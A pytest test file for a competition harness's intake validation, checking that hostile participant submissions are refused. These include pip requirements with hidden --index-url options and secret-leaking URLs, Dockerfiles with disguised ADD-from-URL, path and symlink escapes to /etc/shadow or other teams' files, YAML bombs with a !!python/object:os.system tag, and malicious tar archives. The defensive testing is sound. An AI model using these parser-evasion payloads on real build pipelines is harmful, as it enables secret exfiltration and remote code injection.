"""Intake against a hostile participant: each way in that got through before is refused by our own
parser, read in the grammar of the tool that would consume it (pip, Docker's parser, `docker load`,
PyYAML), before that tool sees a byte. No Docker: `tests/docker/test_prebuilt_images.py` loads."""

from __future__ import annotations

import http.server
import io
import json
import os
import tarfile
import threading
import time
from pathlib import Path

import pytest

from harness import build
from harness.intake import (
    SubmissionError,
    _pip_lines,
    check_requirements,
    confined,
    context_files,
    inspect_archive,
    load_yaml,
    normalised_archive,
    parse_dockerfile,
    parse_requirements,
    read_file,
)
from harness.spec import load_manifest

# --- requirements: what pip would read is what we check --------------------------------------------

TRICKY = [
    "# a comment that ends in a backslash \\\n--index-url http://127.0.0.1:9/simple\nnumpy==2.2.6\n",
    "numpy==2.2.6 \\\n--extra-index-url=http://127.0.0.1:9/\n",
    "numpy==2.2.6 # comment \\\n--find-links /etc\n",
    "  # indented comment \\\n-e git+http://127.0.0.1:9/evil.git#egg=evil\n",
    "numpy\\\n==2.2.6\n",
    "a\\\n\\\nb==1\n",
    "numpy==2.2.6 ; python_version > \" --index-url=http://127.0.0.1:9/\"\n",
    "x==1\n#\\\n-r /proc/self/environ\n",
]


@pytest.mark.parametrize("text", TRICKY)
def test_logical_lines_are_pips_own(text: str) -> None:
    """pip's own preprocessing (installed with the harness) is the oracle: our joining of lines and
    our comment rule give pip's logical lines, on the inputs that hid options before."""
    from pip._internal.req.req_file import COMMENT_RE, join_lines

    ours = [(n, _strip(line)) for n, line in _pip_lines(text)]
    theirs = [(n, COMMENT_RE.sub("", line).strip()) for n, line in join_lines(enumerate(text.splitlines(), start=1))]
    assert [x for x in ours if x[1]] == [x for x in theirs if x[1]]


def _strip(line: str) -> str:
    from harness.intake import _PIP_COMMENT

    return _PIP_COMMENT.sub("", line).strip()


@pytest.mark.parametrize("text, line", [
    (TRICKY[0], 2), (TRICKY[1], 1), (TRICKY[3], 2), (TRICKY[6], 1), (TRICKY[7], 3),
    ("# -*- coding: utf-7 -*-\nnumpy==1.0+AC0AIQ-\n", 1),  # utf-7: '+AC0-' reads as '-'
    ("numpy==1.0\n--index-url http://127.0.0.1:9/${SECRET}/simple\n", 2),
    ("numpy==1.0 --index-url=http://127.0.0.1:9/${HOME}/simple\n", 1),
    ("numpy==1.0\tfoo\n", 1),
    ("evil @ http://127.0.0.1:9/evil.whl\n", 1),
    ("evil-1.0-py3-none-any.whl\n", 1),
    ("numpy==1.0 --hash=sha256:abc\n", 1),
    ("numpy==1.0 --no-binary=:all:\n", 1),
])
def test_hostile_requirements_are_refused_by_line(tmp_path: Path, text: str, line: int) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text(text, encoding="latin-1")
    with pytest.raises(SubmissionError, match=rf"requirements.txt: line {line}: "):
        check_requirements(path)


@pytest.mark.parametrize("raw", ["\ufeffnumpy==1.0\n".encode(), "numpy==1.0\n".encode("utf-16"),
                                 "numpy==1.0\n".encode("utf-32")])
def test_byte_order_marks_and_wide_encodings_are_refused(tmp_path: Path, raw: bytes) -> None:
    with pytest.raises(SubmissionError, match=r"line 1: a byte outside printable ASCII"):
        parse_requirements(tmp_path / "requirements.txt", raw)


def test_pip_gets_the_normalised_lines() -> None:
    checked = parse_requirements(Path("r.txt"), b"# pins\nnumpy  ==2.2.6 # fast\nscipy>=1.11,<2\n\n")
    assert checked.text == "numpy ==2.2.6\nscipy>=1.11,<2\n"


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the standard library's name
        _Recorder.seen.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def index_server():
    _Recorder.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def _spec(root: Path, name: str, requirements: str):  # type: ignore[no-untyped-def]
    (root / "dockerfiles").mkdir(parents=True, exist_ok=True)
    (root / "dockerfiles" / "x.Dockerfile").write_text("ARG BASE\nFROM ${BASE}\n")
    folder = root / "algorithms" / name
    folder.mkdir(parents=True)
    (folder / "requirements.txt").write_text(requirements)
    (folder / "algorithm.toml").write_text(
        f'name = "{name}"\nversion = "1"\nkind = "segmenter"\ndockerfile = "dockerfiles/x.Dockerfile"\n'
        'profile = "flare22"\ngpu = "none"\n')
    return load_manifest(folder / "algorithm.toml", repo_root=root)


def test_the_background_download_sends_nothing_for_a_hostile_file_and_no_secret_for_an_honest_one(
        tmp_path: Path, index_server: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A local index records every request: the hostile files (an index of their own, a secret in
    the URL, a repository to clone) cause none; the honest one reaches only the organiser's index,
    and the organiser's secret is not in any request."""
    monkeypatch.setenv("HARNESS_TEST_SECRET", "organiser-secret-42")
    monkeypatch.setenv("PIP_INDEX_URL", f"{index_server}/simple")
    monkeypatch.setenv("PIP_RETRIES", "0")
    monkeypatch.setenv("PIP_TIMEOUT", "5")
    hostile = [
        _spec(tmp_path, "comment", f"# x \\\n--index-url {index_server}/${{HARNESS_TEST_SECRET}}/simple\nsix==1.16.0\n"),
        _spec(tmp_path, "vcs", f"-e git+{index_server}/evil.git#egg=evil\n"),
        _spec(tmp_path, "url", f"evil @ {index_server}/evil-1.0-py3-none-any.whl\n"),
        _spec(tmp_path, "links", f"six==1.16.0\n--find-links {index_server}/links\n"),
        _spec(tmp_path, "marker", f'six==1.16.0 ; python_version > " --index-url={index_server}/m"\n'),
    ]
    build.fetch_wheels(hostile, tmp_path / "wheels").join(60)
    assert _Recorder.seen == []
    honest = _spec(tmp_path, "honest", "six==1.16.0\n")
    build.fetch_wheels([honest], tmp_path / "wheels").join(120)
    assert _Recorder.seen and all(path.startswith("/simple/six") for path in _Recorder.seen)  # the server does see pip
    assert not any("organiser-secret-42" in path for path in _Recorder.seen)


def test_pips_environment_holds_no_organiser_variable(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "x")
    monkeypatch.setenv("PIP_INDEX_URL", "http://mirror.local/simple")
    env = build.pip_environment(tmp_path)
    assert "AWS_SECRET_ACCESS_KEY" not in env and env["PIP_INDEX_URL"] == "http://mirror.local/simple"
    assert env["HOME"] == str(tmp_path)


# --- Dockerfiles: what the daemon's parser would read ------------------------------------------------

HEAD = "ARG BASE\nFROM ${BASE}\n"


@pytest.mark.parametrize("text, fault", [
    ("# escape=`\n" + HEAD + "RUN echo hidden \\\nADD http://127.0.0.1:9/x /opt/\n", "line 5: ADD of a URL"),
    (HEAD + "ARG U=http://127.0.0.1:9/x\nADD ${U} /opt/\n", "line 4: ADD of a URL"),
    (HEAD + "ADD $U /opt/\n", "line 3: ADD of a URL"),
    (HEAD + "ADD http\\\n://127.0.0.1:9/x /opt/\n", "line 3: ADD of a URL"),
    (HEAD + 'ADD ["http\\u003a//127.0.0.1:9/x", "/opt/"]\n', "line 3: ADD of a URL"),
    (HEAD + "ADD --checksum=sha256:00 http://127.0.0.1:9/x /opt/\n", "line 3: ADD --checksum is not allowed"),
    (HEAD + "COPY --from=${IMG} /x /y\n", "line 3: COPY --from"),
    (HEAD + "ADD h\\ttp://127.0.0.1:9/x /opt/\n", "line 3: ADD of a URL"),
    ("# escape=`\n# escape=\\\n" + HEAD, "line 2: the parser directive 'escape' twice"),
    ("\ufeff" + HEAD, "byte-order mark"),
    (HEAD + "RUN echo\u00a0hi\n", "line 3: a control character or an unusual space"),
])
def test_dockerfiles_are_read_as_dockers_parser_reads_them(text: str, fault: str) -> None:
    with pytest.raises(SubmissionError, match=fault):
        parse_dockerfile(Path("x.Dockerfile"), text.encode())


def test_a_continued_instruction_swallows_comment_lines_as_docker_does() -> None:
    """Inside a continuation Docker drops comment and empty lines, so this ADD is part of the RUN
    (a shell word), not an instruction: accepted, and the RUN is one instruction."""
    from harness.intake import dockerfile_instructions

    text = HEAD + "RUN echo \\\n# ADD http://127.0.0.1:9/x /opt/\n  done\n"
    assert dockerfile_instructions(Path("x"), text)[-1] == (3, "RUN", "echo   done")
    parse_dockerfile(Path("x"), text.encode())
    text = HEAD + "RUN echo \\\n# a comment\n\nADD http://127.0.0.1:9/x /opt/\n"  # empty lines continue too
    assert dockerfile_instructions(Path("x"), text)[-1] == (3, "RUN", "echo ADD http://127.0.0.1:9/x /opt/")


# --- files a manifest names, and the build context -------------------------------------------------


def test_manifest_paths_stay_in_the_algorithms_folder(tmp_path: Path) -> None:
    team_b = tmp_path / "team-b"
    team_b.mkdir()
    (team_b / "team-b.tar").write_bytes(b"private model")
    team_a = tmp_path / "team-a"
    team_a.mkdir()
    (team_a / "link.tar").symlink_to(team_b / "team-b.tar")
    (team_a / "models").symlink_to(team_b, target_is_directory=True)
    for value, fault in [("../team-b/team-b.tar", "leaves the algorithm's folder"),
                         ("/proc/self/environ", "leaves the algorithm's folder"),
                         ("link.tar", "passes through the symbolic link"),
                         ("models/team-b.tar", "passes through the symbolic link")]:
        with pytest.raises(SubmissionError, match=fault):
            confined(team_a, value, key="archive", where=team_a / "algorithm.toml")


def test_an_archive_outside_the_folder_never_reaches_a_run(tmp_path: Path) -> None:
    folder = tmp_path / "algorithms" / "thief"
    folder.mkdir(parents=True)
    (folder / "algorithm.toml").write_text('name = "thief"\nversion = "1"\nkind = "segmenter"\n'
                                           'archive = "../victim/victim.tar"\nprofile = "flare22"\n')
    from harness.errors import SpecError

    with pytest.raises(SpecError, match=r"key 'archive' = '../victim/victim.tar' leaves the algorithm's folder"):
        load_manifest(folder / "algorithm.toml", repo_root=tmp_path)


def test_hard_links_sparse_files_and_fifos_are_refused(tmp_path: Path) -> None:
    labels = tmp_path / "labelsTr"
    labels.mkdir()
    (labels / "case.nii.gz").write_bytes(b"ground truth")
    folder = tmp_path / "algorithm"
    folder.mkdir()
    os.link(labels / "case.nii.gz", folder / "weights.bin")
    with pytest.raises(SubmissionError, match=r"weights.bin: a hard link \(2 names for one file\)"):
        context_files(folder)
    (folder / "weights.bin").unlink()
    with (folder / "sparse.bin").open("wb") as handle:
        handle.truncate(1536 * 1024**2)  # 1.5 GiB that hold nothing
    with pytest.raises(SubmissionError, match=r"sparse.bin: a sparse file"):
        context_files(folder)
    (folder / "sparse.bin").unlink()
    os.mkfifo(folder / "requirements.txt")
    started = time.monotonic()
    with pytest.raises(SubmissionError, match=r"requirements.txt: not a regular file"):
        check_requirements(folder / "requirements.txt")  # never blocks on the FIFO
    assert time.monotonic() - started < 5


def test_a_file_is_read_no_further_than_its_cap(tmp_path: Path) -> None:
    path = tmp_path / "params.yaml"
    path.write_bytes(b"a: 1\n" * 1000)
    with pytest.raises(SubmissionError, match=r"5000 bytes, over the cap of 100 for a YAML file"):
        read_file(path, what="a YAML file", max_bytes=100)


# --- YAML ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text, fault", [
    ("a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b]\n",
     "line 1: a YAML anchor, alias or tag"),
    ("tasks: " + "[" * 30000 + "]" * 30000 + "\n", "nested more than 64 levels deep"),
    ("tasks: !!python/object:os.system x\n", "a YAML anchor, alias or tag"),
])
def test_yaml_bombs_are_refused_before_they_are_built(tmp_path: Path, text: str, fault: str) -> None:
    path = tmp_path / "mlcube.yaml"
    path.write_text(text)
    with pytest.raises(SubmissionError, match=fault):
        load_yaml(path)


def test_plain_yaml_loads(tmp_path: Path) -> None:
    path = tmp_path / "mlcube.yaml"
    path.write_text("tasks:\n  infer:\n    parameters:\n      inputs: {data_path: data/}\n")
    assert load_yaml(path) == {"tasks": {"infer": {"parameters": {"inputs": {"data_path": "data/"}}}}}


# --- image archives ---------------------------------------------------------------------------------


def _archive(path: Path, manifest: list[dict], members: dict[str, bytes], *, extra: list[tarfile.TarInfo] = (),
             mode: str = "w") -> Path:
    with tarfile.open(path, mode) as out:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            out.addfile(info, io.BytesIO(data))
        for info in extra:
            out.addfile(info)
        data = json.dumps(manifest).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(data)
        out.addfile(info, io.BytesIO(data))
    return path


def _layer() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as layer:
        info = tarfile.TarInfo("hello.txt")
        info.size = 2
        layer.addfile(info, io.BytesIO(b"hi"))
    return buffer.getvalue()


def test_an_archive_is_handed_on_without_any_tag(tmp_path: Path) -> None:
    config = b'{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":[]}}'
    layer = _layer()
    path = _archive(tmp_path / "team.tar", [{"Config": "c.json", "RepoTags": ["harness-victim:0123", "harness/base:x"],
                                             "Layers": ["l/layer.tar", "m/layer.tar"]}],
                    {"c.json": config, "l/layer.tar": layer, "repositories": b'{"harness-victim":{"0123":"x"}}'},
                    extra=[_symlink("m/layer.tar", "../l/layer.tar")])
    image = inspect_archive(path, max_bytes=10**6)
    assert image.tags == ("harness-victim:0123", "harness/base:x") and image.layers == ("l/layer.tar", "m/layer.tar")
    chunks, writer, outcome = normalised_archive(image, max_bytes=10**6)
    data = b"".join(chunks)
    writer.join()
    import hashlib

    assert outcome == [f"sha256:{hashlib.sha256(config).hexdigest()}"]
    with tarfile.open(fileobj=io.BytesIO(data)) as copy:
        names = copy.getnames()
        manifest = json.loads(copy.extractfile("manifest.json").read())  # type: ignore[union-attr]
        assert copy.extractfile("m/layer.tar").read() == layer  # type: ignore[union-attr]
    assert manifest == [{"Config": "c.json", "RepoTags": None, "Layers": ["l/layer.tar", "m/layer.tar"]}]
    assert sorted(names) == ["c.json", "l/layer.tar", "m/layer.tar", "manifest.json"]  # no `repositories`


def _symlink(name: str, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = tarfile.SYMTYPE
    info.linkname = target
    return info


@pytest.mark.parametrize("case, fault", [
    ("thirty", "holds 30 images; an algorithm's archive holds exactly one"),
    ("escape", "leaves the archive"),
    ("link-out", "leaves the archive"),
    ("too-big", "holds more than 20000 bytes uncompressed"),
    ("no-manifest", "no manifest.json"),
    ("foreign", "foreign layers"),
    ("device", "is a device or FIFO"),
])
def test_hostile_archives_are_refused_before_loading(tmp_path: Path, case: str, fault: str) -> None:
    one = {"Config": "c.json", "RepoTags": None, "Layers": ["l.tar"]}
    members = {"c.json": b"{}", "l.tar": b"x" * 100}
    manifest, extra = [one], []
    if case == "thirty":
        manifest = [dict(one, RepoTags=[f"t:{i}"]) for i in range(30)]
    elif case == "escape":
        members["../../outside"] = b"x"
    elif case == "link-out":
        extra = [_symlink("l2.tar", "/etc/shadow")]
    elif case == "too-big":
        members["big"] = b"\0" * 30_000  # 30 kB of zeros: a small file, gzipped
    elif case == "foreign":
        manifest = [dict(one, LayerSources={"sha256:x": {"urls": ["http://127.0.0.1:9/x"]}})]
    elif case == "device":
        device = tarfile.TarInfo("dev")
        device.type = tarfile.CHRTYPE
        extra = [device]
    path = _archive(tmp_path / "team.tar", manifest, members, extra=extra, mode="w:gz" if case == "too-big" else "w")
    if case == "no-manifest":
        with tarfile.open(path, "w") as out:
            out.addfile(tarfile.TarInfo("index.json"), io.BytesIO(b""))
    with pytest.raises(SubmissionError, match=fault):
        inspect_archive(path, max_bytes=20_000)


def test_a_compressed_layer_is_refused_while_handed_on(tmp_path: Path) -> None:
    import gzip

    path = _archive(tmp_path / "team.tar", [{"Config": "c.json", "RepoTags": None, "Layers": ["l.tar"]}],
                    {"c.json": b"{}", "l.tar": gzip.compress(b"\0" * 100_000)})
    chunks, writer, outcome = normalised_archive(inspect_archive(path, max_bytes=10**6), max_bytes=10**6)
    b"".join(chunks)
    writer.join()
    assert isinstance(outcome[0], SubmissionError) and "is compressed" in str(outcome[0])


def test_the_organisers_pip_configuration_still_reaches_pip(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """pip runs with another HOME: the organiser's own pip.conf (an air-gapped mirror) is copied in."""
    home = tmp_path / "home"
    (home / ".config" / "pip").mkdir(parents=True)
    (home / ".config" / "pip" / "pip.conf").write_text("[global]\nindex-url = http://mirror.local/simple\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("PIP_CONFIG_FILE", raising=False)
    work = tmp_path / "work"
    work.mkdir()
    env = build.organiser_pip_config(work)
    assert Path(env["PIP_CONFIG_FILE"]).read_text() == "[global]\nindex-url = http://mirror.local/simple\n"
    monkeypatch.setenv("PIP_CONFIG_FILE", "/etc/organiser-pip.conf")
    assert build.organiser_pip_config(work) == {}
    assert build.pip_environment(work)["PIP_CONFIG_FILE"] == "/etc/organiser-pip.conf"
